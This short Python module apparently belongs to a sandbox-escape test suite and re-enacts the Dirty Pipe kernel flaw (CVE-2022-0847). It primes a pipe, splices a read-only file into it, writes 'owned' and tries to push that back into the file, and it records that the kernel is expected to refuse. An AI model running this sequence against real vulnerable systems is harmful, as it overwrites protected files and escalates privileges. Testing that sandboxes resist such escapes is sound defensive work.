"""Splice a pipe into the page cache of a read-only file (Dirty Pipe)."""

import ctypes
import os

from tests.escape.technique import Alone, Technique


def attack(world):
    descriptor = world.open_raw(world.granted)
    reader, writer = os.pipe()
    room = 65536
    os.write(writer, b"x" * room)
    os.read(reader, room)
    offset = ctypes.c_longlong(0)
    world.attempt("splice", descriptor, ctypes.byref(offset), writer, None, 1, 0)
    os.write(writer, b"owned")
    world.syscall("splice", reader, None, descriptor, None, 5, 0)


TECHNIQUE = Technique(
    source="CVE-2022-0847 (Dirty Pipe)",
    no_event="the kernel refuses: the descriptor is open for reading only (EBADF)",
    stops=("file permissions",),
    control=Alone("this kernel is not vulnerable; the check is that the file does not change"),
)
